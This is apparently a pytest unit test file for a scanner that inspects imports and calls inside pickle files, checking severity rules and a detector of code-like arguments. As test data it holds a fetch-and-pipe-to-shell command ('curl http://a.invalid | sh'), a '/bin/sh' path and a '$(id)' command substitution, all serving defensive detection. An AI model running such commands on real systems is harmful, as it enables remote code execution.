from __future__ import annotations

import pytest

from assay.assess.checks.pickle_imports import CHECK
from assay.assess.pickle_surveyed import is_function, is_surveyed, looks_like_code
from assay.domain.finding import Confidence, Severity
from tests.unit.assess.subjects import pickle, rules, run


def test_a_function_of_python_that_no_file_needs_is_high():
    (finding,) = run(CHECK, pickle("difflib:unified_diff")).findings
    assert (finding.rule, finding.severity) == ("unlisted-call", Severity.HIGH)


def test_a_class_of_python_on_no_list_is_only_unknown():
    assert rules(run(CHECK, pickle("difflib:HtmlDiff"))) == ["unknown-import"]


def test_a_function_that_is_only_fetched_is_only_unknown():
    report = run(CHECK, pickle("textwrap:dedent", called=False))
    assert rules(report) == ["unknown-import"]


def test_an_unknown_function_given_a_command_is_high_with_low_confidence():
    calls = [("house.tools.perform", "'curl http://a.invalid | sh'")]
    (finding,) = run(CHECK, pickle("house.tools:perform", calls=calls)).findings
    assert (finding.rule, finding.severity) == ("unknown-call", Severity.HIGH)
    assert finding.confidence is Confidence.LOW


def test_an_unknown_function_given_plain_values_is_only_unknown():
    calls = [("house.tools.perform", "'weights', 3")]
    report = run(CHECK, pickle("house.tools:perform", calls=calls))
    assert rules(report) == ["unknown-import"]


@pytest.mark.parametrize(
    "name", ["Attic", "_Attic", "_rebuild_attic", "__pyx_unpickle_A"]
)
def test_classes_and_what_rebuilds_objects_are_no_functions(name):
    assert not is_function(name)


@pytest.mark.parametrize("name", ["perform", "Attic.perform", "_run"])
def test_functions_and_methods_are_functions(name):
    assert is_function(name)


def test_modules_below_a_surveyed_one_are_surveyed():
    assert is_surveyed("torch.nn.functional")
    assert not is_surveyed("torchhouse")


@pytest.mark.parametrize(
    "given",
    ["'echo hello'", "'import os'", "'http://a.invalid'", "b'/bin/sh'", "1, '$(id)'"],
)
def test_commands_addresses_and_code_are_told(given):
    assert looks_like_code(given)


@pytest.mark.parametrize("given", ["'weights'", "1, 2", "'hello world'", "'layer.0'"])
def test_plain_texts_are_not_code(given):
    assert not looks_like_code(given)
